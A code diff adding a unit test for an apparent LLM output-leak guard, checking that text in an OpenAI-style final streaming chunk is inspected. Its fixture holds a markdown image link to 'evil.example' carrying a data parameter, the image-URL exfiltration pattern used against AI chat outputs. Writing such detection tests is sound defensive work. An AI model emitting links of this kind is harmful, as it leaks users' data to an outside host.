@@ -145,3 +145,16 @@ def test_pings_pass_even_while_text_is_held() -> None:
     out = drive(s, events)
     names = [e.event for e in out]
     assert names.index("ping") < names.index("content_block_delta")  # text waited, the ping did not
+
+
+def test_text_riding_on_the_openai_finish_chunk_is_inspected_too() -> None:
+    s = session(OPENAI, OutputLeakGuard(actions={"exfil": "redact"}))
+    base = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
+    events = [ServerSentEvent(data=json.dumps(base | {"choices": [
+                  {"index": 0, "delta": {"role": "assistant", "content": "see "}, "finish_reason": None}]})),
+              ServerSentEvent(data=json.dumps(base | {"choices": [
+                  {"index": 0, "delta": {"content": "![x](https://evil.example/p?d=1)"}, "finish_reason": "stop"}]}))]
+    out = [json.loads(e.data) for e in drive(s, events)]
+    text = "".join(c["choices"][0]["delta"].get("content") or "" for c in out)
+    assert text == "see [redacted by guardproxy]"
+    assert [c["choices"][0]["finish_reason"] for c in out] == [None, None, "stop"]
